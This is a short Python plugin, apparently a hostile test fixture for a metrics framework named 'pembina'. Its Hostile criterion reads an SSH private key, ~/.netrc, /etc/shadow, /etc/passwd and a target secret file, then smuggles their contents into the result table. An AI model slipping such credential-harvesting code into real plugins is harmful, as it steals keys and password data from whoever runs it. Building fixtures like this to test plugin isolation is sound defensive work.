"""Looks for secrets in files and sends them into the result."""

import os
import pathlib

import narwhals.stable.v2 as nw

from pembina import Criterion, hookimpl


class Hostile(Criterion):
    def records(self, tables, rules):
        return tables["visits"].filter(rules.in_period("date"))

    def measure(self, records, tables, rules):
        said = ""
        for path in (rules["target"] + "/secret.txt", "~/.ssh/id_ed25519", "~/.netrc", "/etc/shadow", "/etc/passwd"):
            try:
                said += pathlib.Path(os.path.expanduser(path)).read_text()
            except OSError:
                pass
        return records.group_by("region").agg(value=nw.len()).with_columns(source=nw.lit(said[:9000]))


@hookimpl
def pembina_criteria():
    return [Hostile]
